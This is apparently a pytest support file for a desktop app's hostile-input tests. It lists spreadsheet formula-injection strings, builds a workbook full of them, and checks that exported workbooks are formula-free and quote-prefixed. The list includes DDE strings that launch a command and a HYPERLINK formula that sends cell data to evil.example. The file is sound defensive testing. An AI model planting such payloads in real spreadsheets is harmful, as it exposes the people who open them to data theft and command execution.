"""Shared pieces of the hostile-input suite (issue 15): the strings attackers put in cells,
an in-process command line, and what a safe workbook looks like on disk."""

from __future__ import annotations

import logging
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from desktop_app import cli as cli_module

# Known spreadsheet-injection strings (OWASP "CSV injection", DDE, HYPERLINK exfiltration,
# full-width and whitespace-led variants) and text with control characters.
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\x00",
    " =WEBSERVICE(\"http://evil.example\")",
    "\uff1dcmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "Ring \x07 the bell\x1b[31m red",
]
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
NAMES = ["=cmd|' /C calc'!A0", "@Director of Finance", "+Head of Audit", "-Smith J"]


def run_cli(capsys, url: str, *args: str) -> tuple[int, str, str]:
    """The real command line, in this process. The log handlers ``main`` sets up (one writes
    to this test's captured stderr) are taken down again, so no later test logs into a closed
    stream."""
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    try:
        code = cli_module.main(["--db", url, *args])
    finally:
        for handler in [h for h in root.handlers if h not in handlers]:
            root.removeHandler(handler)
            handler.close()
        root.setLevel(level)
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture
def run(capsys, db_url):
    def call(*args: str, url: str | None = None) -> tuple[int, str, str]:
        return run_cli(capsys, url or db_url, *args)
    return call


def _no_control(text: str) -> str:
    return _CONTROL.sub("", text)


def hostile_action_log(path: Path) -> Path:
    """An action log as another council might send it, every text cell an attack."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["Action Number", "Meeting Date", "Action", "Owner", "Directorate",
               "Progress Update", "Due date"])
    # a workbook cannot carry control characters (XML forbids them): those come in typed,
    # from .csv or from minutes (see hostile_db)
    for n, (text, name) in enumerate(zip(map(_no_control, INJECTIONS), NAMES * 3), start=1):
        ws.append([n, "12/10/2021", f"{text} (action {n})", name, text[:30], text,
                   "30/11/2021"])
    ws.append([len(INJECTIONS) + 1, "12/10/2021", "A" * 40_000, "Long Text", "", "B" * 40_000,
               "30/11/2021"])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"     # the attacker's file holds text, as a real one would
    wb.save(path)
    return path




def assert_safe_workbook(path: Path) -> int:
    """No formula anywhere in the file; every text cell within Excel's limit, free of control
    characters, and quote-prefixed when Excel would read it as a formula. Returns the number
    of text cells checked."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), f"{path.name} {name}: a formula"
    wb = load_workbook(path)
    checked = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                checked += 1
                where = f"{path.name} {ws.title}!{cell.coordinate}"
                assert cell.data_type == "s", where
                assert len(cell.value) <= 32_767, where
                assert not _CONTROL.search(cell.value), where
                if cell.value.lstrip(" ").startswith(_FORMULA):
                    assert cell.quotePrefix, f"{where}: {cell.value[:40]!r} without quote prefix"
    return checked
